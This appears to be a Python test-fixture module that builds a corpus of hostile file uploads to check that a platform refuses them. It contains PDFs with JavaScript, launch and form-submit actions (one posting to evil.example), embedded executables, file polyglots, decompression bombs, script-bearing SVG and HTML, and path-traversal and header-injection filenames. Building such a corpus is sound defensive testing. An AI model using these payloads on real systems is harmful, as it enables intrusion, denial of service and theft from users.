"""A corpus of hostile uploads, made on the fly (nothing big is committed).

Each `Hostile` case says what a safe upload entry point must do with it: refuse it (a 4xx whose
`detail` contains `refused`) or accept it (the file is harmless as stored and served). Every
builder is bounded: the largest file made here is about a megabyte.

The tests that use it: dossiers/tests/test_hostile_uploads.py (multipart and direct uploads, the
analysis worker, downloads), portal/tests/test_hostile_attachments.py (observation attachments)
and signatures/tests/test_hostile_verify.py (the public signature check).
"""

from __future__ import annotations

import functools
import io
import signal
import struct
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field

from PIL import Image

from dossiers.tests import files

# --- PDF made by hand, byte by byte -------------------------------------------------------

HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
CONTENT = b"0 0 0 RG 2 w 100 100 m 400 100 l 400 300 l 100 300 l h S"


def raw_pdf(
    objects: list[bytes],
    *,
    prefix: bytes = b"",
    header: bytes = HEADER,
    root: int = 1,
    trailer: bytes = b"",
    suffix: bytes = b"",
) -> bytes:
    """Numbered objects (1-based) with a correct xref table; `prefix` comes before the header."""
    out = bytearray(prefix + header)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, trailer, xref)
    return bytes(out) + suffix


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def page_pdf(
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    pages: bytes = b"/Kids [3 0 R] /Count 1",
    extra: list[bytes] | None = None,
    **kwargs,
) -> bytes:
    """One A4 page with a rectangle. Objects 1-4 are catalog, page tree, page, content; `extra`
    objects are numbered from 5, so a case can point at them (`5 0 R`, `6 0 R`…)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
        b"<< /Type /Pages " + pages + b" >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R " + page + b">>",
        _stream(CONTENT),
        *(extra or []),
    ]
    return raw_pdf(objects, **kwargs)


JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\); this.exportDataObject\\({cName: 'x'}\\)) >>"


def js_in_object_stream() -> bytes:
    """The JavaScript action sits in a compressed object stream, indexed by an xref stream:
    no byte of `/JavaScript` is visible in the file."""
    hidden = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    index = b"5 0 "
    objstm = zlib.compress(index + hidden)
    plain = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        _stream(CONTENT),
    ]
    out = bytearray(HEADER)
    offsets: dict[int, int] = {}
    for number, body in enumerate(plain, start=1):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    offsets[6] = len(out)
    stream_dict = b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode " % len(index)
    out += b"6 0 obj\n" + _stream(objstm, stream_dict) + b"\nendobj\n"
    offsets[7] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3, 4)]
    rows += [struct.pack(">BIH", 2, 6, 0)]  # object 5: in object stream 6, at index 0
    rows += [struct.pack(">BIH", 1, offsets[6], 0), struct.pack(">BIH", 1, offsets[7], 0)]
    xref = b"".join(rows)
    xref_dict = b"/Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R "
    out += b"7 0 obj\n" + _stream(xref, xref_dict) + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[7]
    return bytes(out)


# --- archives and images -------------------------------------------------------------------


def small_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("index.html", "<script>alert(document.domain)</script>")
    return out.getvalue()


def pdf_inside_zip() -> bytes:
    """A ZIP whose first member, stored uncompressed, is a PDF: `%PDF-` within the first kilobyte."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("a.pdf", files.good_pdf())
    return out.getvalue()


def jpeg_pdf_polyglot() -> bytes:
    """A valid JPEG whose comment segment holds the objects of a valid PDF (with JavaScript),
    whose xref table follows the JPEG's end: a viewer sees a photo, a PDF reader a document."""
    jpeg = files.jpeg(64, 48)
    body = bytearray(b"%PDF-1.7\n")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        _stream(CONTENT),
        JS_ACTION,
    ]
    start = 2 + 4  # SOI, then the COM marker and its length
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(start + len(body))
        body += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    comment = b"\xff\xfe" + struct.pack(">H", len(body) + 2) + bytes(body)
    head = jpeg[:2] + comment + jpeg[2:]
    xref = len(head)
    tail = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    tail += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    tail += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return head + tail


def gif(frames: int = 1, side: int = 8) -> bytes:
    out = io.BytesIO()
    images = [Image.new("P", (side, side), i % 256) for i in range(frames)]
    images[0].save(out, format="GIF", save_all=True, append_images=images[1:])
    return out.getvalue()


def jpeg_huge_dimensions(width: int = 60_000, height: int = 60_000) -> bytes:
    """A small JPEG whose frame header (SOF0) claims width × height."""
    data = bytearray(files.jpeg(16, 16))
    sof = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, height, width)
    return bytes(data)


def tiff_by_hand(*, width: int = 4, height: int = 4, next_ifd: int | None = 0, big_endian: bool = False) -> bytes:
    """An uncompressed 8-bit grey TIFF of one strip; `next_ifd=None` makes the IFD point at itself."""
    order = ">" if big_endian else "<"
    pixels = b"\x80" * min(width * height, 64)
    ifd_offset = 8
    entries = [
        (256, 4, 1, width),  # ImageWidth, LONG
        (257, 4, 1, height),  # ImageLength
        (258, 3, 1, 8),  # BitsPerSample
        (259, 3, 1, 1),  # Compression: none
        (262, 3, 1, 1),  # Photometric: black is zero
        (273, 4, 1, 0),  # StripOffsets, patched below
        (277, 3, 1, 1),  # SamplesPerPixel
        (278, 4, 1, height),  # RowsPerStrip
        (279, 4, 1, min(width * height, 0xFFFFFFFF)),  # StripByteCounts (as declared)
    ]
    ifd_size = 2 + len(entries) * 12 + 4
    data_offset = ifd_offset + ifd_size
    out = bytearray((b"MM\x00*" if big_endian else b"II*\x00") + struct.pack(order + "I", ifd_offset))
    out += struct.pack(order + "H", len(entries))
    for tag, kind, count, value in entries:
        value = data_offset if tag == 273 else value
        if kind == 3:
            out += struct.pack(order + "HHIHH", tag, kind, count, value, 0)
        else:
            out += struct.pack(order + "HHII", tag, kind, count, value)
    out += struct.pack(order + "I", ifd_offset if next_ifd is None else next_ifd)
    return bytes(out + pixels)


def tiff_frames(count: int) -> bytes:
    out = io.BytesIO()
    frames = [Image.new("L", (4, 4), i % 256) for i in range(count)]
    frames[0].save(out, format="TIFF", save_all=True, append_images=frames[1:])
    return out.getvalue()


def doubling_page_tree(levels: int) -> bytes:
    """Page-tree nodes that each list the next one twice: 2**levels pages from `levels` objects."""
    nodes = []
    for level in range(levels):
        below = 5 + level + 1 if level < levels - 1 else 3
        nodes.append(b"<< /Type /Pages /Kids [%d 0 R %d 0 R] /Count 2 >>" % (below, below))
    return page_pdf(pages=b"/Kids [5 0 R] /Count 1", extra=nodes)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


@functools.cache
def _deflated_zeros(size: int) -> bytes:
    compressor = zlib.compressobj(9)
    block = b"\x00" * (1 << 20)
    parts = [compressor.compress(block) for _ in range(size >> 20)]
    return b"".join([*parts, compressor.flush()])


def png_idat_bomb(side: int = 64, inflated: int = 1 << 30) -> bytes:
    """A side × side grey PNG whose IDAT stream inflates to `inflated` bytes (1 GiB from ~1 MB)."""
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", _deflated_zeros(inflated))
        + _png_chunk(b"IEND", b"")
    )


def png_text_bomb(inflated: int = 64 << 20) -> bytes:
    """A tiny PNG with a zTXt chunk that inflates to `inflated` bytes."""
    good = files.png(8, 8, dpi=None)
    ztxt = _png_chunk(b"zTXt", b"Comment\x00\x00" + _deflated_zeros(inflated))
    return good[:33] + ztxt + good[33:]  # after the signature and IHDR


def png_corrupt_idat(side: int = 64) -> bytes:
    """Chunks and checksums are right, but the pixel data is not a zlib stream."""
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", b"this is not deflate data" * 4)
        + _png_chunk(b"IEND", b"")
    )


SVG_SCRIPT = b"""<?xml version="1.0" standalone="no"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
  <rect width="100" height="100" fill="red"/>
  <script type="text/javascript">alert(document.cookie)</script>
</svg>
"""
HTML_PAGE = b"<!DOCTYPE html><html><body><script>fetch('/api/v1/auth/me/').then(r=>r.text()).then(alert)</script></body></html>\n"


# --- the corpus ------------------------------------------------------------------------------


@dataclass(frozen=True)
class Hostile:
    """One hostile upload and what a safe entry point does with it.

    `refused` is a fragment of the English `detail` when the file is refused (with `status`),
    None when it is accepted. `by_worker` refusals pass the upload checks (which do not decode
    every pixel) and are refused by the analysis job: the version ends `rejected` with that reason;
    an observation attachment, which no job analyses, keeps such a file (as a download).
    `limits` overrides settings.URBADESK for the case. `verify` is the status the public signature
    check answers: it keeps nothing, so it may read PDFs that plans refuse.
    """

    id: str
    build: Callable[[], bytes]
    refused: str | None
    status: int = 422
    name: str = "plan.pdf"
    limits: dict = field(default_factory=dict)
    verify: int = 200
    group: str = ""
    by_worker: bool = False

    def content(self) -> bytes:
        return self.build()


def _case(group: str, id: str, build: Callable[[], bytes], refused: str | None, **kwargs) -> Hostile:
    return Hostile(id=id, build=build, refused=refused, group=group, **kwargs)


SCRIPT = "JavaScript"
ACTIVE = "opens other files or programs"
EMBEDDED = "embedded files"
XFA = "XFA form"
NOT_ACCEPTED = "not a PDF, PNG, JPEG or TIFF"
DAMAGED_PDF = "PDF is damaged"
BOMB = "decompression bomb"
DAMAGED_IMAGE = "image is damaged"
INCONSISTENT = "page tree is inconsistent"
HIDDEN_PDF = "does not start at its first byte"
ARCHIVE = "and an archive"


def _deep(opening: bytes, closing: bytes, depth: int = 5000) -> bytes:
    return opening * depth + b"null" + closing * depth


CORPUS: list[Hostile] = [
    # polyglots: one file, two meanings
    _case(
        "polyglot",
        "pdf-with-zip-appended",
        lambda: files.good_pdf() + small_zip(),
        ARCHIVE,
    ),
    _case("polyglot", "zip-holding-a-pdf", pdf_inside_zip, HIDDEN_PDF, verify=400),
    _case(
        "polyglot",
        "html-before-pdf-header",
        lambda: page_pdf(prefix=HTML_PAGE),
        HIDDEN_PDF,
        verify=400,
    ),
    _case("polyglot", "junk-before-pdf-header", lambda: page_pdf(prefix=b"MZ" + b"\x90" * 300), HIDDEN_PDF, verify=400),
    _case("polyglot", "jpeg-pdf-polyglot", jpeg_pdf_polyglot, HIDDEN_PDF, name="photo.jpg", verify=400),
    _case(
        "polyglot",
        "png-with-zip-appended",
        lambda: files.png(32, 32) + small_zip(),
        ARCHIVE,
        name="scan.png",
        verify=400,
    ),
    _case("polyglot", "gifar", lambda: gif() + small_zip(), NOT_ACCEPTED, name="image.gif", verify=400),
    _case(
        "polyglot",
        "html-in-pdf-comment",  # starts as a PDF: served as application/pdf, never sniffed as HTML
        lambda: page_pdf(header=HEADER + b"%<html><body><script>alert(document.domain)</script></body></html>\n"),
        None,
    ),
    # active content in PDFs
    _case(
        "active",
        "javascript-name-tree",
        lambda: page_pdf(catalog=b"/Names << /JavaScript << /Names [(go) 5 0 R] >> >>", extra=[JS_ACTION]),
        SCRIPT,
    ),
    _case("active", "openaction-javascript", lambda: page_pdf(catalog=b"/OpenAction 5 0 R", extra=[JS_ACTION]), SCRIPT),
    _case(
        "active",
        "openaction-goto-then-javascript",
        lambda: page_pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>", extra=[JS_ACTION]),
        SCRIPT,
    ),
    _case("active", "openaction-goto-only", lambda: page_pdf(catalog=b"/OpenAction [3 0 R /Fit]"), None),
    _case(
        "active",
        "openaction-action-cycle",  # a /Next chain that loops on itself, harmless otherwise
        lambda: page_pdf(catalog=b"/OpenAction 5 0 R", extra=[b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>"]),
        None,
    ),
    _case("active", "page-aa-javascript", lambda: page_pdf(page=b"/AA << /O 5 0 R >>", extra=[JS_ACTION]), SCRIPT),
    _case(
        "active",
        "link-annotation-javascript",
        lambda: page_pdf(
            page=b"/Annots [6 0 R]",
            extra=[JS_ACTION, b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A 5 0 R >>"],
        ),
        SCRIPT,
    ),
    _case(
        "active",
        "form-field-aa-javascript",
        lambda: page_pdf(
            catalog=b"/AcroForm << /Fields [6 0 R] >>",
            page=b"/Annots [6 0 R]",
            extra=[
                JS_ACTION,
                b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [0 0 100 20] /P 3 0 R /AA << /K 5 0 R >> >>",
            ],
        ),
        SCRIPT,
    ),
    _case(
        "active",
        "outline-item-javascript",
        lambda: page_pdf(
            catalog=b"/Outlines 6 0 R",
            extra=[
                JS_ACTION,
                b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
                b"<< /Title (Click) /Parent 6 0 R /A 5 0 R >>",
            ],
        ),
        SCRIPT,
    ),
    _case(
        "active",
        "javascript-hex-escaped-name",
        lambda: page_pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
        SCRIPT,
    ),
    _case("active", "javascript-in-object-stream", js_in_object_stream, SCRIPT),
    _case(
        "active",
        "uri-javascript-scheme",
        lambda: page_pdf(
            page=b"/Annots [5 0 R]",
            extra=[
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (JavaScript:alert\\(1\\)) >> >>"
            ],
        ),
        SCRIPT,
    ),
    _case(
        "active",
        "uri-javascript-as-bytes",  # a byte 0x9F (not PDFDocEncoding) keeps the string undecoded
        lambda: page_pdf(
            page=b"/Annots [5 0 R]",
            extra=[
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI <206A6176617363726970743A9F> >> >>"
            ],
        ),
        SCRIPT,
    ),
    _case(
        "active",
        "empty-javascript-and-attachment-name-trees",  # what is left after an editor removed them
        lambda: page_pdf(catalog=b"/Names << /JavaScript << /Names [] >> /EmbeddedFiles << /Names [] >> >>"),
        None,
    ),
    _case(
        "active",
        "uri-https-link",
        lambda: page_pdf(
            page=b"/Annots [5 0 R]",
            extra=[
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (https://example.org/) >> >>"
            ],
        ),
        None,
    ),
    _case(
        "active",
        "launch-action",
        lambda: page_pdf(catalog=b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> /F (calc.exe) >>"),
        ACTIVE,
    ),
    _case(
        "active",
        "embedded-files",
        lambda: page_pdf(
            catalog=b"/Names << /EmbeddedFiles << /Names [(invoice.exe) 5 0 R] >> >>",
            extra=[
                b"<< /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F 6 0 R >> >>",
                _stream(b"MZ\x90\x00 payload", b"/Type /EmbeddedFile "),
            ],
        ),
        EMBEDDED,
    ),
    _case(
        "active",
        "file-attachment-annotation",
        lambda: page_pdf(
            page=b"/Annots [7 0 R]",
            extra=[
                b"<< /Type /Filespec /F (run.bat) /EF << /F 6 0 R >> >>",
                _stream(b"@echo off\r\ncalc\r\n", b"/Type /EmbeddedFile "),
                b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 5 0 R /Name /PushPin >>",
            ],
        ),
        EMBEDDED,
    ),
    _case(
        "active",
        "xfa-form",
        lambda: page_pdf(
            catalog=b"/AcroForm << /Fields [] /XFA 5 0 R >> /NeedsRendering true",
            extra=[_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>')],
        ),
        XFA,
    ),
    _case(
        "active",
        "submit-form-action",
        lambda: page_pdf(
            page=b"/Annots [5 0 R]",
            extra=[
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example/) >> >>"
            ],
        ),
        ACTIVE,
    ),
    _case(
        "active",
        "uri-file-scheme",
        lambda: page_pdf(
            page=b"/Annots [5 0 R]",
            extra=[
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file:///C:/Windows/calc.exe) >> >>"
            ],
        ),
        ACTIVE,
    ),
    _case(
        "active",
        "action-type-by-reference",  # /S 5 0 R, where object 5 is the name /JavaScript
        lambda: page_pdf(catalog=b"/OpenAction << /S 5 0 R /JX 1 >>", extra=[b"/JavaScript"]),
        SCRIPT,
    ),
    # structure bombs: nesting, cycles, page-tree loops, page counts, missing objects
    _case("structure", "nested-arrays-5000-deep", lambda: page_pdf(page=b"/Deep " + _deep(b"[", b"]")), DAMAGED_PDF),
    _case(
        "structure",
        "nested-dicts-5000-deep",  # pypdf reads past it, PDFium stops at 64 levels: harmless
        lambda: page_pdf(page=b"/Deep " + _deep(b"<< /A ", b" >>")),
        None,
    ),
    _case(
        "structure",
        "nested-arrays-in-unreferenced-object",  # nothing reads an object nothing refers to
        lambda: page_pdf(extra=[_deep(b"[", b"]")]),
        None,
    ),
    _case(
        "structure",
        "reference-cycles",  # an array that holds itself, two dicts that point at each other
        lambda: page_pdf(
            page=b"/Loop 5 0 R /Pair 6 0 R",
            extra=[b"[5 0 R 6 0 R]", b"<< /Self 6 0 R /Other 7 0 R >>", b"<< /Back 6 0 R /Up 5 0 R >>"],
        ),
        None,
    ),
    _case(
        "structure",
        "outline-loop",  # a bookmark that is its own next, previous and first child
        lambda: page_pdf(
            catalog=b"/Outlines 5 0 R",
            extra=[
                b"<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>",
                b"<< /Title (a) /Parent 5 0 R /Next 6 0 R /Prev 6 0 R /First 6 0 R /Dest [3 0 R /Fit] >>",
            ],
        ),
        None,
    ),
    _case("structure", "page-tree-loop", lambda: page_pdf(pages=b"/Kids [3 0 R 2 0 R] /Count 2"), DAMAGED_PDF),
    _case(
        "structure",
        "page-tree-indirect-loop",
        lambda: page_pdf(
            pages=b"/Kids [5 0 R] /Count 2",
            extra=[b"<< /Type /Pages /Parent 2 0 R /Kids [3 0 R 2 0 R] /Count 2 >>"],
        ),
        DAMAGED_PDF,
    ),
    _case("structure", "page-tree-doubling-30-levels", lambda: doubling_page_tree(30), DAMAGED_PDF),
    _case(
        "structure",
        "page-tree-of-20000-missing-objects",  # pypdf searched the whole file for each: 20 s
        lambda: page_pdf(pages=b"/Kids [" + b"".join(b"%d 0 R " % n for n in range(5, 20_005)) + b"] /Count 20000"),
        DAMAGED_PDF,
    ),
    _case(
        "structure",
        "annotations-of-20000-missing-objects",
        lambda: page_pdf(page=b"/Annots [" + b"".join(b"%d 0 R " % n for n in range(5, 20_005)) + b"]"),
        DAMAGED_PDF,
    ),
    _case(
        "structure",
        "page-count-claims-two-billion",
        lambda: page_pdf(pages=b"/Kids [3 0 R] /Count 2000000000"),
        INCONSISTENT,
    ),
    _case(
        "structure",
        "page-count-claims-a-million",  # PDFium believes it and would try to draw 999,999 missing pages
        lambda: page_pdf(pages=b"/Kids [3 0 R] /Count 1000000"),
        INCONSISTENT,
    ),
    _case(
        "structure",
        "one-page-listed-300-times",
        lambda: page_pdf(pages=b"/Kids [" + b"3 0 R " * 300 + b"] /Count 300"),
        "300 pages; the limit is 200",
        limits={"MAX_PDF_PAGES": 200},
    ),
    _case(
        "structure",
        "more-pages-than-the-limit",
        lambda: files.good_pdf(pages=4),
        "4 pages; the limit is 3",
        limits={"MAX_PDF_PAGES": 3},
    ),
    _case("structure", "no-pages", lambda: page_pdf(pages=b"/Kids [] /Count 0"), "no pages"),
    # image bombs
    _case("image", "png-100000x100000", files.bomb_png, BOMB, name="scan.png", verify=400),
    _case("image", "png-idat-inflates-to-1-gib", png_idat_bomb, None, name="scan.png", verify=400),
    _case("image", "png-ztxt-inflates-to-64-mib", png_text_bomb, DAMAGED_IMAGE, name="scan.png", verify=400),
    _case(
        "image", "png-corrupt-pixel-data", png_corrupt_idat, DAMAGED_IMAGE, name="scan.png", verify=400, by_worker=True
    ),
    _case("image", "jpeg-60000x60000", jpeg_huge_dimensions, BOMB, name="photo.jpg", verify=400),
    _case(
        "image",
        "tiff-100000x100000",
        lambda: tiff_by_hand(width=100_000, height=100_000),
        BOMB,
        name="scan.tif",
        verify=400,
    ),
    _case(
        "image",
        "tiff-more-frames-than-the-limit",
        lambda: tiff_frames(300),
        "more than 200 pages",
        name="scan.tif",
        limits={"MAX_PDF_PAGES": 200},
        verify=400,
    ),
    _case("image", "tiff-ifd-loop", lambda: tiff_by_hand(next_ifd=None), None, name="scan.tif", verify=400),
    _case("image", "gif-1000-frames", lambda: gif(1000), NOT_ACCEPTED, name="anim.gif", verify=400),
    # scripts in disguise
    _case("script", "svg-with-script", lambda: SVG_SCRIPT, NOT_ACCEPTED, name="plan.svg", verify=400),
    _case("script", "svg-named-pdf", lambda: SVG_SCRIPT, NOT_ACCEPTED, verify=400),
    _case("script", "html-named-pdf", lambda: HTML_PAGE, NOT_ACCEPTED, verify=400),
    # broken files
    _case("broken", "truncated-pdf", files.truncated_pdf, "incomplete", verify=400),
    _case("broken", "header-and-eof-only", lambda: b"%PDF-1.7\n%%EOF\n", DAMAGED_PDF, verify=400),
    _case(
        "broken",
        "startxref-points-nowhere",  # repaired by pypdf and PDFium alike
        lambda: page_pdf().replace(b"startxref\n", b"startxref\n99999"),
        None,
        verify=400,
    ),
    _case("broken", "leading-blank-lines", lambda: b"\r\n \n" + files.good_pdf(), None, verify=400),
    _case(
        "broken",
        "media-box-of-strings",
        lambda: page_pdf().replace(b"/MediaBox [0 0 595 842]", b"/MediaBox [(a) (b) (c) (d)]"),
        "empty page box",
    ),
    _case(
        "broken",
        "media-box-overflows",
        lambda: page_pdf().replace(b"/MediaBox [0 0 595 842]", b"/MediaBox [0 0 1e400 842]"),
        DAMAGED_PDF,
    ),
    _case("broken", "rotation-of-20-digits", lambda: page_pdf(page=b"/Rotate 99999999999999999999"), "quarter turn"),
    _case("broken", "catalog-without-pages", lambda: page_pdf().replace(b"/Pages 2 0 R", b"/Pagez 2 0 R"), DAMAGED_PDF),
    _case("broken", "encrypted-pdf", files.encrypted_pdf, "encrypted"),
    _case("broken", "encrypted-empty-user-password", lambda: encrypted_pdf_no_user_password(), "encrypted"),
]


def encrypted_pdf_no_user_password() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(files.good_pdf())))
    writer.encrypt(user_password="", owner_password="owner", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


BY_ID = {case.id: case for case in CORPUS}
assert len(BY_ID) == len(CORPUS), "case ids must be unique"

# Names a client may give a file; each must reach the download header harmlessly.
HOSTILE_NAMES = {
    "path-traversal": "../../etc/passwd.pdf",
    "absolute-path": "/etc/passwd.pdf",
    "windows-path": "C:\\Windows\\System32\\evil.pdf",
    "crlf-header-injection": "plan.pdf\r\nSet-Cookie: pwned=1\r\nX-Injected: yes",
    "quote-injection": 'plan.pdf"; filename="evil.html',
    "rtl-override": "plan\u202efdp.exe",
    "zero-width-and-controls": "pl\u200ban\x07\x1b[31m.pdf",
    "very-long": "a" * 250 + ".pdf",
    "unicode": "Plan de façade — Rez-de-chaussée 1:100.pdf",
    "dots-only": "..",
}


# --- time bounds -------------------------------------------------------------------------------

SOFT_LIMIT_SECONDS = 20  # a case slower than this fails: a person would think the upload hung
HARD_LIMIT_SECONDS = 90  # a case still running then is stopped, so a hang cannot stall the suite


@contextmanager
def within(seconds: float = SOFT_LIMIT_SECONDS) -> Iterator[None]:
    """Fail if the block takes longer than `seconds`; interrupt it if it hangs (main thread)."""

    def hung(signum, frame):
        raise TimeoutError(f"still running after {HARD_LIMIT_SECONDS} s")

    previous = signal.signal(signal.SIGALRM, hung)
    signal.setitimer(signal.ITIMER_REAL, HARD_LIMIT_SECONDS)
    started = time.monotonic()
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)
    elapsed = time.monotonic() - started
    assert elapsed < seconds, f"took {elapsed:.1f} s (limit {seconds} s)"
